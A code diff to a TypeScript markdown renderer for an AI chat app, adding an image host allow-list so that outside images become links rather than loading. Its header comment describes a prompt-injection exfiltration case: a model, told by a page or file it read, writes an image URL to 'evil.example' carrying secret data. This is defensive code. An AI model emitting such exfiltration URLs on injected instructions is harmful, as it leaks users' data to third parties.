@@ -2,10 +2,23 @@
  * Markdown for model answers, rendered safely: raw HTML in a message is shown as text (never
  * parsed), and links with unsafe schemes (`javascript:`, `vbscript:`, `file:`, non-image `data:`)
  * are not turned into links. Links open in a new tab without access to this page.
+ *
+ * Images load inline only from this app, `data:` images, and the origins in `imageHosts`
+ * (NUXT_PUBLIC_IMAGE_HOSTS). Any other image becomes a link naming its host: a model that was
+ * told (by a web page or a file it read) to write `![](https://evil.example/?data=secret)` cannot
+ * make the browser send that request. The CSP's `img-src` enforces the same list.
  */
 import MarkdownIt from 'markdown-it'
 
 const markdown = new MarkdownIt({ html: false, linkify: true, breaks: true, typographer: false })
+const { escapeHtml } = markdown.utils
+
+/** What rendering needs to know beyond the text. */
+interface RenderEnv {
+  imageHosts: readonly string[]
+}
+
+const LINK_ATTRIBUTES = 'target="_blank" rel="noopener noreferrer nofollow"'
 
 const defaultLinkOpen = markdown.renderer.rules.link_open
   ?? ((tokens, index, options, _env, self) => self.renderToken(tokens, index, options))
@@ -15,7 +28,36 @@ markdown.renderer.rules.link_open = (tokens, index, options, env, self) => {
   return defaultLinkOpen(tokens, index, options, env, self)
 }
 
+/** The origin of an absolute http(s) URL, else undefined. */
+function originOf(src: string): string | undefined {
+  try {
+    const url = new URL(src)
+    return url.protocol === 'https:' || url.protocol === 'http:' ? url.origin : undefined
+  } catch {
+    return undefined
+  }
+}
+
+/** Whether an image may load inline: this app's own paths, data: images, allowed hosts. */
+export function isImageShownInline(src: string, imageHosts: readonly string[]): boolean {
+  if (src.startsWith('/') && !src.startsWith('//')) return true
+  if (/^data:image\//i.test(src)) return true
+  const origin = originOf(src)
+  return origin !== undefined && imageHosts.includes(origin)
+}
+
+const defaultImage = markdown.renderer.rules.image!
+markdown.renderer.rules.image = (tokens, index, options, env: RenderEnv, self) => {
+  const token = tokens[index]!
+  const src = token.attrGet('src') ?? ''
+  if (isImageShownInline(src, env.imageHosts)) return defaultImage(tokens, index, options, env, self)
+  const alt = self.renderInlineAsText(token.children ?? [], options, env) || 'image'
+  const host = originOf(src) ?? 'another site'
+  return `<a class="blocked-image" href="${escapeHtml(src)}" ${LINK_ATTRIBUTES} title="Not loaded: images from other sites could tell them you read this. Open it in a new tab if you trust it.">🖼 ${escapeHtml(alt)} <span class="blocked-image-host">(image from ${escapeHtml(host)}, not loaded)</span></a>`
+}
+
 /** HTML for a message's markdown (safe to bind with v-html). */
-export function renderMarkdown(text: string): string {
-  return markdown.render(text)
+export function renderMarkdown(text: string, imageHosts: readonly string[] = []): string {
+  const env: RenderEnv = { imageHosts }
+  return markdown.render(text, env)
 }
